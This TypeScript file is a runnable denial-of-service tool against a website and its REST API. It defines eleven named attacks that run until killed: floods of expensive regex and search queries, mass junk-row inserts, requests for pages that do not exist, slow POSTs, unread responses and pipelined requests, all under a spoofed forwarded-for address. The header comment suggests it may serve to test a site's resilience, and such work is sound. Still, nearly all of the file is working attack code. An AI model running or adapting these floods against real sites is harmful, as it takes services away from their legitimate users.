import { randomInt } from 'node:crypto';
import { once } from 'node:events';
import { type Socket, connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

// Attacks by which one address may try to deny a site to all others. This file is also the attacker's process:
// `node attacks.ts <site's url> <public key> <name of the attack>`, until it is killed.

/** The attacker's address; the site believes it because it trusts the proxy's header. */
const address = '203.0.113.66';

interface Target {
  url: URL;
  key: string;
}

interface Sent {
  path: string;
  method?: string;
  headers?: Record<string, string>;
  body?: string;
}

/** Repeats an attempt on this many connections in parallel. */
function repeat(connections: number, attempt: (target: Target) => Promise<unknown>) {
  return async (target: Target) => {
    const connection = async () => {
      for (;;) {
        await attempt(target).catch(() => undefined);
        // Without a pause, immediate refusals would keep only the attacker's own process busy.
        await pause(2);
      }
    };
    await Promise.all(Array.from({ length: connections }, connection));
  };
}

const headersOf = ({ key }: Target, { headers }: Sent) => ({
  'x-forwarded-for': address,
  apikey: key,
  ...headers,
});

const flood = (connections: number, next: () => Sent) =>
  repeat(connections, async (target) => {
    const { path, ...init } = next();
    const headers = headersOf(target, { path, ...init });
    const answer = await fetch(target.url.origin + path, { ...init, headers });
    await answer.arrayBuffer();
  });

function requestText(target: Target, sent: Sent): string {
  const headers = { host: target.url.host, ...headersOf(target, sent) };
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  return `${sent.method ?? 'GET'} ${sent.path} HTTP/1.1\r\n${lines.join('')}\r\n`;
}

/** Writes a request this many times on a connection, reads nothing, and leaves. */
async function writeAndLeave(
  target: Target,
  sent: Sent,
  { times = 1, afterMs }: { times?: number; afterMs: number },
): Promise<void> {
  const socket = await open(target);
  socket.write(requestText(target, sent).repeat(times));
  await Promise.race([once(socket, 'close'), pause(afterMs)]);
  socket.destroy();
}

async function open({ url }: Target): Promise<Socket> {
  const socket = connect(Number(url.port), url.hostname);
  socket.on('error', () => {});
  await once(socket, 'connect');
  return socket;
}

const any = () => randomInt(1_000_000_000);
const table = '/rest/v1/Articles';
const messages = '/rest/v1/Contact%20Records';
const json = { 'content-type': 'application/json' };

const costly = [
  () => `${table}?content=match.(a%7Ca)*${any()}$`,
  () => `${table}?select=id&content=ilike.*a*b*${any()}*`,
  () => `${table}?or=(${Array.from({ length: 90 }, (_, n) => `content.like.*${n}*`).join()})`,
  () => `${table}?select=${Array.from({ length: 80 }, (_, n) => `%22x:${n}%22:content`).join()}`,
  () => `/rest/v1/%2FArticles?content=fts.word${any()}`,
  () => `/rest/v1/Articles%2F?order=content&select=id,content`,
  () => `${table}?select=*&limit=1000&offset=${any() % 4_000}&order=id`,
  () => `${table}?select=*&search_vector=fts.${'a%7C'.repeat(90)}a`,
];

const letters = (count: number) =>
  Array.from({ length: count }, () => (10 + randomInt(26)).toString(36)).join('');
const eightWords = () => ({
  path: `/search?q=${Array.from({ length: 8 }, () => letters(9)).join('+')}`,
});
/** Begins and ends like many names in titles. */
const misspelt = () => `kar${letters(3)}pur`;
/** Words that articles contain, and two that are compared with the words of titles. */
const twoMisspelt = () => ({ path: `/search?q=${misspelt()}+the+note+${misspelt()}+answer` });

const rows = [
  { headers: json, body: JSON.stringify(Array.from({ length: 500 }, () => ({ message: 'x' }))) },
  { headers: { 'content-type': 'text/csv' }, body: `message\r${'x\r'.repeat(20_000)}` },
];
const either = <Item>(items: readonly Item[]): Item => items[any() % items.length] as Item;

/** The attacks by name; each continues until its process ends. */
export const attacks: Record<string, (target: Target) => Promise<void>> = {
  'costly questions to the API': flood(50, () => ({ path: either(costly)() })),
  'rows in heaps through the API': flood(16, () => ({
    path: messages,
    method: 'POST',
    ...either(rows),
  })),
  'categories that do not exist': flood(100, () => ({
    path: either([`/?category=${any()}`, `/online-mode?category=${any()}`]),
  })),
  'articles and courses that do not exist': flood(100, () => ({
    path: either([`/article/${any()}`, `/course-${any()}`]),
  })),
  'questions whose sender has left': repeat(100, (target) => {
    const page = `${table}?select=*&limit=1000&order=id&offset=${any() % 4_000}`;
    return writeAndLeave(target, { path: either([`/article/${any()}`, page]) }, { afterMs: 30 });
  }),
  'downloads that are broken off': repeat(50, (target) =>
    writeAndLeave(target, { path: '/clips/topper-2.mp4' }, { afterMs: 10 }),
  ),
  'requests without an end on one connection': repeat(4, (target) =>
    writeAndLeave(target, { path: '/' }, { times: 10_000, afterMs: 5_000 }),
  ),
  'readers that do not read': repeat(100, (target) =>
    writeAndLeave(target, { path: '/editorial-analysis' }, { times: 16, afterMs: 20_000 }),
  ),
  'misspelt searches on 32 lines': flood(32, eightWords),
  'two misspelt words on 200 lines': flood(200, twoMisspelt),
  'posts that come slowly': repeat(100, async (target) => {
    const socket = await open(target);
    const path = either([messages, '/contact']);
    const headers = { ...json, 'content-length': '1000' };
    socket.write(requestText(target, { path, method: 'POST', headers }));
    for (let sent = 0; sent < 1_000 && !socket.destroyed; sent += 1) {
      socket.write('x');
      await pause(1_000);
    }
  }),
};

const [url, key, name = ''] = process.argv.slice(2);
if (import.meta.main && url !== undefined && key !== undefined) {
  await attacks[name]?.({ url: new URL(url), key });
}
